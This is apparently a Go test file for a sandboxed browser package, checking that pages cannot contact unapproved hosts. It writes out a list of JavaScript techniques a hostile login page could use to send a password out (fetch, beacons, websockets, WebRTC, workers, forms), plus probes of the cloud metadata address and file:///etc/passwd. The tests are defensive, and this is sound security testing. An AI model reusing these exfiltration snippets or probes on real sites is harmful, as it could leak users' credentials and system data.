package browser

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
)

// ear is a listener that was not opened to the browser: it counts the connections that reach it.
type ear struct {
	tcp   *httptest.Server
	udp   net.PacketConn
	heard atomic.Int64
}

func listening(t *testing.T) *ear {
	t.Helper()
	e := &ear{}
	e.tcp = httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
	e.tcp.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			e.heard.Add(1)
		}
	}
	e.tcp.Start()
	t.Cleanup(e.tcp.Close)
	var err error
	if e.udp, err = (&net.ListenConfig{}).ListenPacket(t.Context(), "udp", "127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = e.udp.Close() })
	go func() {
		buffer := make([]byte, 1500)
		for {
			if _, _, err := e.udp.ReadFrom(buffer); err != nil {
				return
			}
			e.heard.Add(1)
		}
	}()
	return e
}

func (e *ear) host() string { return strings.TrimPrefix(e.tcp.URL, "http://") }

// waysOut are what a hostile login page may try, each with the address of an ear.
var waysOut = map[string]string{
	"fetch":         `fetch("http://%[1]s/?pw").catch(() => {})`,
	"beacon":        `navigator.sendBeacon("http://%[1]s/", "pw")`,
	"keepalive":     `fetch("http://%[1]s/", {method: "POST", body: "pw", keepalive: true, mode: "no-cors"}).catch(() => {})`,
	"image":         `new Image().src = "http://%[1]s/?pw"`,
	"script":        `import("http://%[1]s/pw.js").catch(() => {})`,
	"style":         `document.head.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: "http://%[1]s/pw.css"}))`,
	"frame":         `document.body.append(Object.assign(document.createElement("iframe"), {src: "http://%[1]s/?pw"}))`,
	"window":        `window.open("http://%[1]s/?pw")`,
	"websocket":     `new WebSocket("ws://%[1]s/?pw")`,
	"events":        `new EventSource("http://%[1]s/?pw")`,
	"worker":        `new Worker(URL.createObjectURL(new Blob(['fetch("http://%[1]s/?pw").catch(() => {})'])))`,
	"shared worker": `new SharedWorker(URL.createObjectURL(new Blob(['fetch("http://%[1]s/?pw").catch(() => {})'])))`,
	"form": `const f = Object.assign(document.createElement("form"), {action: "http://%[1]s/?pw", target: "x"}); document.body.append(f);
		f.submit()`,
	"away": `location = "http://%[1]s/?pw"`,
	"webrtc": `const c = new RTCPeerConnection({iceServers: [{urls: "stun:%[2]s"}, {urls: "turn:%[2]s?transport=udp", username: "pw",
		credential: "pw"}]}); c.createDataChannel("x"); c.createOffer().then(o => c.setLocalDescription(o))`,
}

func TestNothingLeavesTheBrowserButToWhatWasOpened(t *testing.T) {
	newPage(t)
	for name, script := range waysOut {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			e, p := listening(t), newPage(t)
			script := fmt.Sprintf(script, e.host(), e.udp.LocalAddr())
			server := site(t, map[string]any{"/": `<p>home<script>addEventListener("load", () => {` + script + `})</script>`})
			open(t, p, server.URL)
			if name == "webrtc" { // it bypasses the proxy, and sends its datagrams within a second
				_, err := Eval[bool](t.Context(), p, `() => new Promise(done => setTimeout(() => done(true), 1000))`)
				ok(t, err)
			} else {
				ok(t, p.Until(t.Context(), "an attempt", func(context.Context) (bool, error) {
					return slices.Contains(shared.Refused(), e.host()), nil
				}))
			}
			if n := e.heard.Load(); n > 0 {
				t.Errorf("%d connections or datagrams arrived", n)
			}
			speak(t, "udp", e.udp.LocalAddr().String())
			speak(t, "tcp", e.host())
			ok(t, p.Until(t.Context(), "the ear", func(context.Context) (bool, error) { return e.heard.Load() == 2, nil }))
		})
	}
}

// speak proves that the ear notices connections.
func speak(t *testing.T, network, address string) {
	t.Helper()
	c, err := (&net.Dialer{}).DialContext(t.Context(), network, address)
	ok(t, err)
	_, err = c.Write([]byte("x"))
	ok(t, err)
	ok(t, c.Close())
}

func TestNamesAndAddressesOfOthersAreNotReached(t *testing.T) {
	p := newPage(t)
	for _, url := range []string{"http://unlisted.example/", "http://169.254.169.254/latest/", "http://10.0.0.1/", "http://[::1]:1/"} {
		if err := p.Open(t.Context(), url); err == nil {
			t.Errorf("%s opens", url)
		}
	}
	server := site(t, map[string]any{"/": `<p>home<iframe src="file:///etc/passwd"></iframe><script>location = "file:///etc/passwd"</script>`})
	open(t, p, server.URL)
	if text, err := p.Text(t.Context(), "body"); err != nil || strings.Contains(text, "root:") {
		t.Errorf("a file of this machine opens: %q, %v", text, err)
	}
}

func TestAPageSaysWhichOriginItLacks(t *testing.T) {
	e := listening(t)
	server := site(t, map[string]any{
		"/sent": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, e.tcp.URL+"/login", http.StatusFound)
		},
		"/asks": `<img src="` + e.tcp.URL + `/logo.png" onerror="document.title = 'done'"><p>log in`,
	})
	p := newPage(t)
	err := p.Open(t.Context(), server.URL+"/sent")
	if origin, whole := p.Kept(); origin != e.tcp.URL || !whole || err == nil && len(p.Navigations()) != 2 {
		t.Errorf("sent to %q (%v): %v", origin, whole, err)
	}
	p = newPage(t)
	open(t, p, server.URL+"/asks")
	ok(t, p.Until(t.Context(), "the picture", func(ctx context.Context) (bool, error) { return p.Rest() > 0, nil }))
	if origin, whole := p.Kept(); origin != e.tcp.URL || whole {
		t.Errorf("asked for %q (%v)", origin, whole)
	}
}

func TestAddressesOfOrigins(t *testing.T) {
	for origin, want := range map[string]string{
		"http://Home.lan": "home.lan:80", "https://h/x": "h:443", "http://[::1]:8123/": "[::1]:8123", "wss://h": "h:443", "h:1": "h:1", "*": "*",
	} {
		if got := addressOf(origin); got != want {
			t.Errorf("%s: %s, want %s", origin, got, want)
		}
	}
}
